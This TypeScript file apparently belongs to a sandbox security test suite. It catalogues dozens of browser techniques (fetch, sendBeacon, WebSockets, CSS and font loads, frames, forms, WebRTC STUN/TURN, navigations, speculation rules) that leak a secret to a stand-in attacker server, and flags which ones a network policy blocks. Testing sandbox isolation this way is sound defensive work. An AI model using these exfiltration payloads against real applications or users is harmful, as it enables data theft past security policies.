/**
 * Ways for an app to leak data from its sandbox over the network (attacks.md, part A), as code that runs in
 * a page.
 *
 * Attacks of the first list stay on their page, so one page runs them all. Each attack of the second list
 * needs its own page: it navigates, waits for a click, or acts when it is removed.
 */
import type { Attack } from "./attack-page.ts";

/** A way to leak data. */
export interface NetworkCase {
  id: string;
  title: string;
  attack: Attack | string;
  /** A declared domain opens it. */
  declared?: true;
  /** Waits for a user's click. */
  clicked?: true;
  /** Removed as soon as it is ready. */
  removed?: true;
  /** Leaves its own document: the frame is stopped. */
  leaves?: true;
  /** The browser kills its process, because WebRTC is not allowed there. */
  fatal?: true;
  /** Only DNS lookups leak; nothing reaches a server. */
  unseen?: true;
  /** The browser never does this, on any page. The test notices when that changes. */
  gone?: true;
  /** The policy leaves part of it open, if only a connection; `Connection-Allowlist` closes that part. */
  allowlist?: true;
}

const a = (id: string, title: string, attack: Attack, more: Partial<NetworkCase> = {}): NetworkCase => ({
  id,
  title,
  attack,
  ...more,
});
const declared = { declared: true } as const;
const allowlist = { allowlist: true } as const;
const gone = { gone: true } as const;
const unseen = { unseen: true } as const;

export const REQUESTS: readonly NetworkCase[] = [
  a("A01", "fetch", (at) => fetch(`${at.http}/?${at.secret}`, { mode: "no-cors" }), declared),
  a(
    "A01",
    "fetch that posts",
    (at) => fetch(at.http, { method: "POST", body: at.secret, mode: "no-cors" }),
    declared,
  ),
  a(
    "A02",
    "XMLHttpRequest",
    (at) => {
      const request = new XMLHttpRequest();
      request.open("GET", `${at.http}/?${at.secret}`);
      request.send();
      return new Promise((resolve) => (request.onloadend = resolve));
    },
    declared,
  ),
  a("A02", "XMLHttpRequest that blocks", (at) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${at.http}/?${at.secret}`, false);
    request.send();
  }),
  a("A03", "sendBeacon", (at) => navigator.sendBeacon(`${at.http}/?${at.secret}`, at.secret), declared),
  a(
    "A04",
    "fetch with keepalive",
    (at) => fetch(`${at.http}/?${at.secret}`, { keepalive: true, mode: "no-cors" }),
    declared,
  ),
  a("A04", "fetchLater", (at, { script }) =>
    script(`fetchLater("${at.http}/?${at.secret}", { activateAfter: 0 })`),
  ),
  a(
    "A05",
    "WebSocket",
    (at) => {
      const socket = new WebSocket(`${at.ws}/?${at.secret}`);
      return new Promise((resolve) => (socket.onopen = socket.onerror = resolve));
    },
    declared,
  ),
  a("A05", "WebSocketStream", (at, { script }) => script(`new WebSocketStream("${at.ws}/?${at.secret}")`)),
  a(
    "A06",
    "EventSource",
    (at) => {
      const source = new EventSource(`${at.http}/events?${at.secret}`);
      return new Promise((resolve) => (source.onopen = source.onerror = resolve));
    },
    declared,
  ),
  a("A07", "WebTransport", (at) => new WebTransport(`https://127.0.0.1:${at.udp}/${at.secret}`).ready),
  a("A07", "WebTransport to a name", (at) => new WebTransport(`https://${at.host}:${at.udp}/`).ready, unseen),
  a(
    "A08",
    "image",
    (at) => {
      const image = new Image();
      image.src = `${at.http}/i.svg?${at.secret}`;
      return new Promise((resolve) => (image.onload = image.onerror = resolve));
    },
    declared,
  ),
  a(
    "A08",
    "img srcset",
    (at, { element }) => element("img", { srcset: `${at.http}/i.svg?${at.secret} 1x` }),
    declared,
  ),
  a(
    "A08",
    "picture",
    (at, { html }) => html(`<picture><source srcset="${at.http}/i.svg"><img></picture>`),
    declared,
  ),
  a(
    "A08",
    "input type=image",
    (at, { element }) => element("input", { type: "image", src: `${at.http}/i.svg` }),
    declared,
  ),
  a(
    "A08",
    "legacy background attribute",
    (at, { html, wait }) => {
      void html(`<table background="${at.http}/i.svg"><tr><td>x</table>`);
      return wait(50);
    },
    declared,
  ),
  a("A10", "@font-face", (at, { style }) =>
    style(
      `@font-face{font-family:f${at.port};src:url(${at.http}/f.woff2)} body::after{font-family:f${at.port};content:"x"}`,
    ),
  ),
  a(
    "A10",
    "@font-face for one letter (unicode-range)",
    (at, { style, html }) => {
      void html(`<i style="font-family:u${at.port}">q</i>`);
      return style(`@font-face{font-family:u${at.port};src:url(${at.http}/f.woff2);unicode-range:U+71}`);
    },
    declared,
  ),
  a("A10", "FontFace", (at) => new FontFace("f", `url(${at.http}/f.woff2?${at.secret})`).load(), declared),
  a(
    "A11",
    "script src",
    (at, { element }) => element("script", { src: `${at.http}/s.js?${at.secret}` }),
    declared,
  ),
  a(
    "A11",
    "module script src",
    (at, { element }) => element("script", { type: "module", src: `${at.http}/s.js` }),
    declared,
  ),
  a("A11", "import()", (at, { script }) => script(`import("${at.http}/s.js?${at.secret}")`), declared),
  a(
    "A11",
    "import map",
    async (at, { script }) => {
      await script(`{"imports":{"m${at.port}":"${at.http}/s.js?${at.secret}"}}`, "importmap");
      await script(`import("m${at.port}")`);
    },
    declared,
  ),
  a(
    "A11",
    "modulepreload",
    (at, { element }) => element("link", { rel: "modulepreload", href: `${at.http}/s.js` }),
    declared,
  ),
  a("A12", "blob worker that fetches", (at, { worker }) => worker(`await fetch("${at.http}/?${at.secret}")`)),
  a("A12", "blob worker with importScripts", (at, { worker }) => worker(`importScripts("${at.http}/s.js")`)),
  a("A12", "blob worker with a WebSocket", (at, { worker }) =>
    worker(
      `const s = new WebSocket("${at.ws}"); await new Promise((resolve) => s.onopen = s.onerror = resolve)`,
    ),
  ),
  a("A12", "blob worker with EventSource", (at, { worker }) =>
    worker(
      `const s = new EventSource("${at.http}/events"); await new Promise((resolve) => s.onopen = s.onerror = resolve)`,
    ),
  ),
  a("A12", "blob worker with WebTransport", (at, { worker }) =>
    worker(`await new WebTransport("https://127.0.0.1:${at.udp}/").ready`),
  ),
  a("A12", "blob worker in a blob worker", (at, { worker }) =>
    worker(`const w = new Worker(URL.createObjectURL(new Blob(['fetch("${at.http}").catch(()=>{}).then(()=>postMessage(0))'])));
      await new Promise((resolve) => w.onmessage = w.onerror = resolve)`),
  ),
  a("A12", "module worker that imports", (at) => {
    const url = URL.createObjectURL(new Blob([`import "${at.http}/s.js"`], { type: "text/javascript" }));
    const worker = new Worker(url, { type: "module" });
    return new Promise((resolve) => (worker.onerror = resolve));
  }),
  a("A12", "data: worker that fetches", (at, { worker }) =>
    worker(
      "",
      `data:text/javascript,fetch("${at.http}/?${at.secret}").catch(()=>{}).then(()=>postMessage(0))`,
    ),
  ),
  a("A12", "worker from the attacker", (at, { worker }) => worker("", `${at.http}/s.js`), gone),
  a("A13", "SharedWorker from a blob", (at) => {
    const url = URL.createObjectURL(new Blob([`fetch("${at.http}/?${at.secret}")`]));
    const worker = new SharedWorker(url);
    return new Promise((resolve) => (worker.onerror = resolve));
  }),
  a("A14", "iframe", (at, { element }) => element("iframe", { src: `${at.http}/?${at.secret}` }), {
    ...declared,
    ...allowlist,
  }),
  a(
    "A14",
    "iframe that is sent away later",
    async (at, { child, wait }) => {
      const inner = await child();
      inner.location.href = `${at.http}/?${at.secret}`;
      await wait(50);
    },
    { ...declared, ...allowlist },
  ),
  a(
    "A14",
    "frameset",
    (at, { html, wait }) => {
      const frame = document.createElement("frameset");
      frame.innerHTML = `<frame src="${at.http}">`;
      document.documentElement.append(frame);
      void html("");
      return wait(50);
    },
    allowlist,
  ),
  a(
    "A14",
    "fencedframe",
    async (at, { script }) =>
      script(`
    const frame = document.body.appendChild(document.createElement("fencedframe"));
    frame.config = new FencedFrameConfig("${at.http}/?${at.secret}")`),
    gone,
  ),
  a("A15", "image in an about:blank frame", async (at, { child }) => {
    const inner = await child();
    const image = new inner.Image();
    image.src = `${at.http}/i.svg`;
    await new Promise((resolve) => (image.onload = image.onerror = resolve));
  }),
  a("A15", "fetch in an about:blank frame", async (at, { child }) =>
    (await child()).fetch(`${at.http}/?${at.secret}`),
  ),
  a("A15", "image and script in a srcdoc frame", (at, { child }) =>
    child(`<img src="${at.http}/i.svg"><script>fetch("${at.http}/?srcdoc")</script>`),
  ),
  a("A15", "image in a blob: frame", (at, { element }) =>
    element("iframe", {
      src: URL.createObjectURL(new Blob([`<img src="${at.http}/i.svg">`], { type: "text/html" })),
    }),
  ),
  a("A15", "image in a data: frame", (at, { element }) =>
    element("iframe", { src: `data:text/html,<img src="${at.http}/i.svg">` }),
  ),
  a("A15", "image in a javascript: frame", (at, { element }) =>
    element("iframe", { src: `javascript:'<img src="${at.http}/i.svg">'` }),
  ),
  a(
    "A15",
    "preconnect in a srcdoc frame",
    (at, { child }) => child(`<link rel="preconnect" href="${at.http}">`),
    allowlist,
  ),
  a(
    "A15",
    "preconnect in a sandboxed srcdoc frame",
    (at, { element }) =>
      element("iframe", { sandbox: "", srcdoc: `<link rel="preconnect" href="${at.http}">` }),
    allowlist,
  ),
  a(
    "A15",
    "dns-prefetch in a srcdoc frame",
    (at, { child }) => child(`<link rel="dns-prefetch" href="${at.http}">`),
    { ...allowlist, ...unseen },
  ),
  a(
    "A15",
    "meta refresh in a srcdoc frame",
    (at, { child }) => child(`<meta http-equiv="refresh" content="0;url=${at.http}/?${at.secret}">`),
    allowlist,
  ),
  a(
    "A15",
    "form in a srcdoc frame",
    (at, { child }) => child(`<form action="${at.http}"></form><script>document.forms[0].submit()</script>`),
    allowlist,
  ),
  a("A17", "object", (at, { element }) => element("object", { data: `${at.http}/i.svg?${at.secret}` })),
  a("A17", "object with a type", (at, { element }) =>
    element("object", { type: "text/html", data: `${at.http}/?${at.secret}` }),
  ),
  a("A17", "embed", (at, { element }) => element("embed", { src: `${at.http}/i.svg?${at.secret}` })),
  a(
    "A17",
    "applet",
    (at, { html, wait }) => {
      void html(`<applet code="${at.http}/x.class" codebase="${at.http}"></applet>`);
      return wait(50);
    },
    gone,
  ),
  a(
    "A18",
    "video poster",
    (at, { element, wait }) => {
      void element("video", { poster: `${at.http}/i.svg?${at.secret}` });
      return wait(50);
    },
    declared,
  ),
  a(
    "A18",
    "video src",
    (at, { element }) => element("video", { src: `${at.http}/v.mp4?${at.secret}` }),
    declared,
  ),
  a(
    "A18",
    "audio src",
    (at, { element }) => element("audio", { src: `${at.http}/v.mp3?${at.secret}` }),
    declared,
  ),
  a("A18", "source", (at, { html }) => html(`<video><source src="${at.http}/v.mp4"></video>`), declared),
  a(
    "A18",
    "track",
    (at, { html, wait }) => {
      void html(`<video crossorigin><track default src="${at.http}/t.vtt"></video>`);
      return wait(50);
    },
    declared,
  ),
  a("A19", "SVG image", (at, { html }) => html(`<svg><image href="${at.http}/i.svg"/></svg>`), declared),
  a(
    "A19",
    "SVG use",
    (at, { html, wait }) => {
      void html(`<svg><use href="${at.http}/i.svg#a"/></svg>`);
      return wait(50);
    },
    gone,
  ),
  a(
    "A19",
    "SVG feImage",
    (at, { html, wait }) => {
      void html(`<svg><filter id="f${at.port}"><feImage href="${at.http}/i.svg"/></filter>
      <rect width="9" height="9" filter="url(#f${at.port})"/></svg>`);
      return wait(50);
    },
    declared,
  ),
  a(
    "A19",
    "SVG script",
    (at, { script }) =>
      script(`
    const element = document.createElementNS("http://www.w3.org/2000/svg", "script");
    element.setAttribute("href", "${at.http}/s.js");
    document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg")).append(element)`),
    declared,
  ),
  a("A19", "SVG filter in CSS", (at, { style }) => style(`#go{filter:url(${at.http}/i.svg#f)}`), gone),
  a(
    "A19",
    "SVG animation of an image",
    (at, { html, wait }) => {
      void html(
        `<svg><image width="9" height="9"><set attributeName="href" to="${at.http}/i.svg"/></image></svg>`,
      );
      return wait(50);
    },
    declared,
  ),
  a("A20", "link prefetch", (at, { element }) =>
    element("link", { rel: "prefetch", href: `${at.http}/?${at.secret}` }),
  ),
  a(
    "A20",
    "link preload of an image",
    (at, { element }) => element("link", { rel: "preload", as: "image", href: `${at.http}/i.svg` }),
    declared,
  ),
  a(
    "A20",
    "link preload of a script",
    (at, { element }) => element("link", { rel: "preload", as: "script", href: `${at.http}/s.js` }),
    declared,
  ),
  a(
    "A20",
    "link preload of a font",
    (at, { element }) =>
      element("link", { rel: "preload", as: "font", crossorigin: "", href: `${at.http}/f.woff2` }),
    declared,
  ),
  a(
    "A20",
    "link preload of a fetch",
    (at, { element }) =>
      element("link", { rel: "preload", as: "fetch", crossorigin: "", href: `${at.http}/x.json` }),
    declared,
  ),
  a(
    "A20",
    "link prerender",
    (at, { element, wait }) => {
      void element("link", { rel: "prerender", href: `${at.http}/?${at.secret}` });
      return wait(50);
    },
    gone,
  ),
  a("A20", "link icon", (at, { element, wait }) => {
    void element("link", { rel: "icon", href: `${at.http}/i.svg?${at.secret}` }, document.head);
    return wait(50);
  }),
  a("A20", "link manifest", (at, { element, wait }) => {
    void element("link", { rel: "manifest", href: `${at.http}/m.json` }, document.head);
    return wait(50);
  }),
  a(
    "A20",
    "link stylesheet",
    (at, { element }) => element("link", { rel: "stylesheet", href: `${at.http}/s.css` }),
    declared,
  ),
  a("A20", "link compression-dictionary", (at, { element, wait }) => {
    void element("link", { rel: "compression-dictionary", href: `${at.http}/?${at.secret}` });
    return wait(50);
  }),
  a(
    "A21",
    "link preconnect",
    (at, { element, wait }) => {
      void element("link", { rel: "preconnect", href: at.http });
      return wait(50);
    },
    allowlist,
  ),
  a(
    "A21",
    "link preconnect without credentials",
    (at, { element, wait }) => {
      void element("link", { rel: "preconnect", crossorigin: "", href: at.http });
      return wait(50);
    },
    allowlist,
  ),
  a(
    "A22",
    "link dns-prefetch",
    (at, { element, wait }) => {
      void element("link", { rel: "dns-prefetch", href: `//${at.host}` });
      return wait(50);
    },
    { ...allowlist, ...unseen },
  ),
  a(
    "A22",
    "DNS prefetch of a link, switched on by meta",
    (at, { html, wait }) => {
      void html(`<meta http-equiv="x-dns-prefetch-control" content="on"><a href="//${at.host}">x</a>`);
      return wait(50);
    },
    gone,
  ),
  a("A28", "a ping", (at) => {
    const link = document.body.appendChild(document.createElement("a"));
    link.href = "#";
    link.ping = `${at.http}/?${at.secret}`;
    link.click();
  }),
  a("A31", "speculation rules: prefetch", (at, { script }) =>
    script(
      `{"prefetch":[{"urls":["${at.http}/?${at.secret}"],"eagerness":"immediate"}]}`,
      "speculationrules",
    ),
  ),
  a("A31", "speculation rules: prerender", (at, { script }) =>
    script(
      `{"prerender":[{"urls":["${at.http}/?${at.secret}"],"eagerness":"immediate"}]}`,
      "speculationrules",
    ),
  ),
  a("A31", "speculation rules for the links of a document", (at, { script, html }) => {
    void html(`<a href="${at.http}/?${at.secret}">x</a>`);
    return script(
      `{"prefetch":[{"where":{"href_matches":"${at.http}/*"},"eagerness":"immediate"}]}`,
      "speculationrules",
    );
  }),
  a("A36", "PaymentRequest", (at) =>
    new PaymentRequest([{ supportedMethods: `${at.https}/pay` }], {
      total: { label: "x", amount: { currency: "USD", value: "1" } },
    }).canMakePayment(),
  ),
  a("A36", "FedCM", (at, { script }) =>
    script(`navigator.credentials.get({ identity: { providers: [
    { configURL: "${at.https}/fedcm.json", clientId: "${at.secret}" }] } })`),
  ),
  a(
    "A36",
    "WebAuthn with the relying party of another origin",
    (at) => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: at.host } }),
    unseen,
  ),
  a(
    "A46",
    "CSS background",
    (at, { style }) => style(`#go{background-image:url(${at.http}/i.svg?${at.secret})}`),
    declared,
  ),
  a("A46", "CSS @import", (at, { style }) => style(`@import "${at.http}/s.css?${at.secret}";`), declared),
  a(
    "A46",
    "CSS by the value of an attribute",
    (at, { style, html }) => {
      void html(`<input value="${at.secret}">`);
      return style(
        `input[value^="${at.secret.slice(0, 2)}"]{list-style:url(${at.http}/i.svg);background:url(${at.http}/b.svg)}`,
      );
    },
    declared,
  ),
  a(
    "A46",
    "CSS image-set, cursor, mask, content",
    (at, { style }) =>
      style(`
    body::before{content:url(${at.http}/content.svg)}
    #go{cursor:url(${at.http}/cursor.svg),auto;mask-image:url(${at.http}/mask.svg);border-image:image-set("${at.http}/set.svg" 1x) 1}`),
    declared,
  ),
  a(
    "A46",
    "constructed style sheet",
    (at, { wait }) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body{background-image:url(${at.http}/i.svg)}`);
      document.adoptedStyleSheets.push(sheet);
      return wait(50);
    },
    declared,
  ),
  a(
    "A48",
    "audio worklet",
    (at) => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(`${at.http}/s.js`),
    declared,
  ),
  a(
    "A48",
    "paint worklet",
    (at, { script }) => script(`CSS.paintWorklet.addModule("${at.http}/s.js")`),
    declared,
  ),
  a("A49", "CacheStorage", async (at) => (await caches.open("c")).add(`${at.http}/?${at.secret}`)),
  a(
    "A49",
    "streamed WebAssembly",
    (at) => WebAssembly.compileStreaming(fetch(`${at.http}/m.wasm`)),
    declared,
  ),
  a(
    "A50",
    "attributionsrc of an image",
    (at, { element, wait }) => {
      void element("img", { attributionsrc: `${at.http}/?${at.secret}` });
      return wait(50);
    },
    gone,
  ),
  a(
    "A50",
    "shared storage worklet",
    (at, { script }) => script(`sharedStorage.createWorklet("${at.http}/s.js")`),
    gone,
  ),
  a(
    "A50",
    "interest group",
    (at, { script }) => script(`navigator.joinAdInterestGroup({ owner: "${at.https}", name: "x" }, 1000)`),
    gone,
  ),
  a(
    "A51",
    "report-uri of a policy in a meta element",
    (at, { child }) =>
      child(
        `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${at.http}/?${at.secret}"><img src="data:,">`,
      ),
    gone,
  ),
  a("A54", "fetch that a declared domain redirects", (at, _tools, declared) =>
    fetch(`${declared}/r?to=${encodeURIComponent(at.http)}`),
  ),
  a("A54", "image that a declared domain redirects", (at, { element }, declared) =>
    element("img", { src: `${declared}/r?to=${encodeURIComponent(`${at.http}/i.svg`)}` }),
  ),
  a("A54", "script that a declared domain redirects", (at, { element }, declared) =>
    element("script", { src: `${declared}/r?to=${encodeURIComponent(`${at.http}/s.js`)}` }),
  ),
  a("A54", "frame that a declared domain redirects", (at, { element }, declared) =>
    element("iframe", { src: `${declared}/r?to=${encodeURIComponent(at.http)}` }),
  ),
  a(
    "A52",
    "media session artwork",
    async (at, { wait }) => {
      navigator.mediaSession.metadata = new MediaMetadata({
        title: "x",
        artwork: [{ src: `${at.http}/i.svg` }],
      });
      navigator.mediaSession.playbackState = "playing";
      await wait(50);
    },
    gone,
  ),
  a("A52", "notification icon", (at) => void new Notification("x", { icon: `${at.http}/i.svg` }), gone),
];

const d = (
  id: string,
  title: string,
  attack: Attack | string,
  more: Partial<NetworkCase> = {},
): NetworkCase => ({
  id,
  title,
  attack,
  ...more,
});
const clicked = { clicked: true } as const;
const removed = { removed: true } as const;
const leaves = { leaves: true } as const;
const fatal = { fatal: true, allowlist: true } as const;

export const DEPARTURES: readonly NetworkCase[] = [
  d(
    "A03",
    "sendBeacon on pagehide",
    (at) => {
      addEventListener("pagehide", () => navigator.sendBeacon(`${at.http}/?${at.secret}`, at.secret));
    },
    { ...removed, ...declared },
  ),
  d(
    "A04",
    "fetch with keepalive on pagehide",
    (at) => {
      addEventListener(
        "pagehide",
        () => void fetch(`${at.http}/?${at.secret}`, { keepalive: true, mode: "no-cors" }),
      );
    },
    { ...removed, ...declared },
  ),
  d("A04", "fetchLater, then away", (at, { script }) => script(`fetchLater("${at.http}/?${at.secret}")`), {
    ...removed,
  }),
  d(
    "A23",
    "location.href",
    (at) => {
      location.href = `${at.http}/?${at.secret}`;
    },
    { ...allowlist, ...leaves },
  ),
  d("A23", "location.replace", (at) => location.replace(`${at.http}/?${at.secret}`), {
    ...allowlist,
    ...leaves,
  }),
  d("A23", "location.assign", (at) => location.assign(`${at.http}/?${at.secret}`), {
    ...allowlist,
    ...leaves,
  }),
  d(
    "A23",
    "navigation.navigate",
    (at, { script }) => void script(`navigation.navigate("${at.http}/?${at.secret}")`),
    { ...allowlist, ...leaves },
  ),
  d(
    "A23",
    "click on a link",
    (at) => {
      const link = document.body.appendChild(document.createElement("a"));
      link.href = `${at.http}/?${at.secret}`;
      link.click();
    },
    { ...allowlist, ...leaves },
  ),
  d("A23", "window.open in place", (at) => void open(`${at.http}/?${at.secret}`, "_self"), {
    ...allowlist,
    ...leaves,
  }),
  d(
    "A23",
    "a page of its own that goes on from there",
    (at) => {
      const page = `<script>location.href="${at.http}/?${at.secret}"</script>`;
      location.href = URL.createObjectURL(new Blob([page], { type: "text/html" }));
    },
    leaves,
  ),
  d(
    "A24",
    "meta refresh",
    (at, { element }) =>
      void element(
        "meta",
        { "http-equiv": "refresh", content: `0;url=${at.http}/?${at.secret}` },
        document.head,
      ),
    { ...allowlist, ...leaves },
  ),
  d(
    "A24",
    "meta refresh that is written",
    (at) => {
      document.write(`<meta http-equiv="refresh" content="0;url=${at.http}/?${at.secret}">`);
      document.close();
    },
    { ...allowlist, ...leaves },
  ),
  d(
    "A25",
    "form GET",
    (at, { html }) => {
      void html(`<form id="f" action="${at.http}"><input name="q" value="${at.secret}"></form>`);
      document.forms[0]?.submit();
    },
    { ...allowlist, ...leaves },
  ),
  d(
    "A25",
    "form POST",
    (at, { html }) => {
      void html(`<form method="post" action="${at.http}"><input name="q" value="${at.secret}"></form>`);
      document.forms[0]?.submit();
    },
    { ...allowlist, ...leaves },
  ),
  d(
    "A25",
    "requestSubmit",
    (at, { html }) => {
      void html(`<form method="post" action="${at.http}"><input name="q" value="${at.secret}"></form>`);
      document.forms[0]?.requestSubmit();
    },
    { ...allowlist, ...leaves },
  ),
  d(
    "A25",
    "formaction of a button",
    (at, { html }) => {
      void html(`<form><button formaction="${at.http}">x</button></form>`);
      document.querySelector<HTMLElement>("form button")?.click();
    },
    { ...allowlist, ...leaves },
  ),
  d(
    "A25",
    "input type=image that submits",
    (at, { html }) => {
      void html(`<form action="${at.http}"><input type="image"></form>`);
      document.querySelector<HTMLElement>("form input")?.click();
    },
    { ...allowlist, ...leaves },
  ),
  ...["_top", "_parent", "_blank"].flatMap((target) => {
    const attack = `(at, tools) => {
      void tools.html('<form target="${target}" action="' + at.http + '"><input name="q"></form>');
      document.forms[0].submit();
    }`;
    return [
      d("A26", `form target=${target}`, attack),
      d("A26", `form target=${target}, on a click`, attack, clicked),
    ];
  }),
  d("A29", "window.open", (at) => void open(`${at.http}/?${at.secret}`)),
  d("A29", "window.open on a click", (at) => void open(`${at.http}/?${at.secret}`), clicked),
  d(
    "A29",
    "window.open of an empty page on a click",
    (at) => {
      const page = open("about:blank");
      page?.document.write(`<img src="${at.http}/i.svg">`);
    },
    clicked,
  ),
  d(
    "A29",
    "link target=_blank on a click",
    (at) => {
      const link = document.body.appendChild(document.createElement("a"));
      link.target = "_blank";
      link.href = `${at.http}/?${at.secret}`;
      link.click();
    },
    clicked,
  ),
  d("A30", "top.location", (at) => {
    (top ?? window).location.href = `${at.http}/?${at.secret}`;
  }),
  d(
    "A30",
    "top.location on a click",
    (at) => {
      (top ?? window).location.href = `${at.http}/?${at.secret}`;
    },
    clicked,
  ),
  d(
    "A30",
    "parent.location on a click",
    (at) => {
      parent.location.href = `${at.http}/?${at.secret}`;
    },
    clicked,
  ),
  d(
    "A30",
    "link target=_top on a click",
    (at) => {
      const link = document.body.appendChild(document.createElement("a"));
      link.target = "_top";
      link.href = `${at.http}/?${at.secret}`;
      link.click();
    },
    clicked,
  ),
  d(
    "A15",
    "STUN in an about:blank frame",
    async (at, { child, gather }) =>
      gather({ urls: `stun:127.0.0.1:${at.udp}` }, (await child()).RTCPeerConnection),
    fatal,
  ),
  d(
    "A15",
    "STUN in a srcdoc frame",
    async (at, { child, gather }) =>
      gather({ urls: `stun:127.0.0.1:${at.udp}` }, (await child("")).RTCPeerConnection),
    fatal,
  ),
  d(
    "A15",
    "STUN in a sandboxed srcdoc frame",
    (at, { element }) =>
      element("iframe", {
        sandbox: "allow-scripts",
        srcdoc: `<script>
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${at.udp}" }] });
    peer.createDataChannel("");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  </script>`,
      }),
    fatal,
  ),
  d("A32", "WebRTC: STUN", (at, { gather }) => gather({ urls: `stun:127.0.0.1:${at.udp}` }), fatal),
  d(
    "A33",
    "WebRTC: TURN with the secret in the user name",
    (at, { gather }) => gather({ urls: `turn:127.0.0.1:${at.udp}`, username: at.secret, credential: "x" }),
    fatal,
  ),
  d(
    "A33",
    "WebRTC: TURN over TCP",
    (at, { gather }) =>
      gather({ urls: `turn:127.0.0.1:${at.port}?transport=tcp`, username: at.secret, credential: "x" }),
    fatal,
  ),
  d(
    "A33",
    "WebRTC: TURN over TLS",
    (at, { gather }) =>
      gather({ urls: `turns:127.0.0.1:${at.port}?transport=tcp`, username: at.secret, credential: "x" }),
    fatal,
  ),
  d(
    "A34",
    "WebRTC: the secret in the name of a STUN server",
    (at, { gather }) => gather({ urls: `stun:${at.host}:${at.udp}` }),
    fatal,
  ),
  d(
    "A47",
    "WebRTC: the attacker as the other peer",
    async (at, { wait }) => {
      const peer = new RTCPeerConnection();
      peer.createDataChannel("");
      await peer.setLocalDescription(await peer.createOffer());
      const fingerprint = Array.from({ length: 32 }, () => "AA").join(":");
      const sdp = [
        "v=0",
        "o=- 1 1 IN IP4 127.0.0.1",
        "s=-",
        "t=0 0",
        "a=group:BUNDLE 0",
        "m=application 9 UDP/DTLS/SCTP webrtc-datachannel",
        "c=IN IP4 0.0.0.0",
        `a=ice-ufrag:${at.secret}`,
        "a=ice-pwd:0123456789012345678901234567",
        `a=fingerprint:sha-256 ${fingerprint}`,
        "a=setup:active",
        "a=mid:0",
        "a=sctp-port:5000",
        `a=candidate:1 1 udp 2122260223 127.0.0.1 ${at.udp} typ host`,
        "",
      ];
      await peer.setRemoteDescription({ type: "answer", sdp: sdp.join("\r\n") });
      await wait(1000);
    },
    fatal,
  ),
  d("A38", "base, then a relative image", async (at, { element }) => {
    void element("base", { href: `${at.http}/` }, document.head);
    await element("img", { src: `i.svg?${at.secret}` });
  }),
  d("A38", "base, then a relative script, style and link", async (at, { element }) => {
    void element("base", { href: `${at.http}/` }, document.head);
    void element("link", { rel: "stylesheet", href: "s.css" });
    await element("script", { src: "s.js" });
  }),
  d(
    "A53",
    "download",
    // From another origin this is a navigation like any other.
    (at) => {
      const link = document.body.appendChild(document.createElement("a"));
      link.download = "x";
      link.href = `${at.http}/?${at.secret}`;
      link.click();
    },
    { ...allowlist, ...leaves },
  ),
  d(
    "A53",
    "download on a click",
    (at) => {
      const link = document.body.appendChild(document.createElement("a"));
      link.download = "x";
      link.href = `${at.http}/?${at.secret}`;
      link.click();
    },
    { ...clicked, ...allowlist, ...leaves },
  ),
];
